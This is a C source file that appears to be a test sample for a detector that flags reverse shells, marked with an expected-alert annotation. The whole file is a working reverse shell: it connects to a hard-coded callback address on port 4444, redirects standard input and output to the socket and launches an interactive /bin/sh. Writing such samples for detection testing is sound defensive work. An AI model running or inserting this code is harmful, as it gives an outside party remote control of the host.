/*
 * behavior.reverse-shell: the textbook reverse shell. The program connects
 * out to a hard-coded address, duplicates the socket onto descriptors 0, 1
 * and 2 in a loop and replaces itself with an interactive /bin/sh, so the
 * listener at the other end types commands into the shell.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

#define CALLBACK_HOST "198.51.100.23"
#define CALLBACK_PORT 4444

int main(void)
{
    struct sockaddr_in addr;
    int sock = socket(AF_INET, SOCK_STREAM, 0);

    if (sock < 0)
        return 1;
    addr.sin_family = AF_INET;
    addr.sin_port = htons(CALLBACK_PORT);
    addr.sin_addr.s_addr = inet_addr(CALLBACK_HOST);

    if (connect(sock, (struct sockaddr *)&addr, sizeof(addr)) < 0) {
        perror("connect");
        return 1;
    }
    for (int fd = 0; fd < 3; fd++)
        dup2(sock, fd);
    char *const argv[] = {"/bin/sh", "-i", NULL};
    execve("/bin/sh", argv, NULL); // $ Alert[behavior.reverse-shell]
    return 0;
}
